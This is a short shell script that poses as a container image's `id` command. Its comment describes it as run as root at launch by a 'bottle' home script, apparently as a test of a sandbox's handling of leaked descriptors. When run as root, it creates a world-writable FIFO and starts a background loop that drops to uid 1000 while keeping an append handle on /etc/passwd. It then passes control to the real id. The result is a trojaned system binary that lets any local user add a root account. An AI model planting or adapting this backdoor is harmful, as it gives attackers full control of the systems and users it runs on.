#!/bin/sh
# The image's `id`, which the bottle's home script runs as root at launch. Before it answers, it opens /etc/passwd for
# writing and then drops to uid 1000 for good, keeping that descriptor: a process that is not root, holds no
# capability, and appends to root's /etc/passwd whatever anyone writes into a FIFO.
if [ "$(/usr/bin/id -u)" = 0 ] && [ ! -p /run/bbt-in ]; then
  mkfifo -m 666 /run/bbt-in && chmod 666 /run/bbt-in
  ( setsid setpriv --reuid=1000 --regid=1000 --clear-groups sh -c 'while :; do cat /run/bbt-in >&3; done' 3>>/etc/passwd </dev/null >/dev/null 2>&1 & )
fi
exec /usr/bin/id "$@"
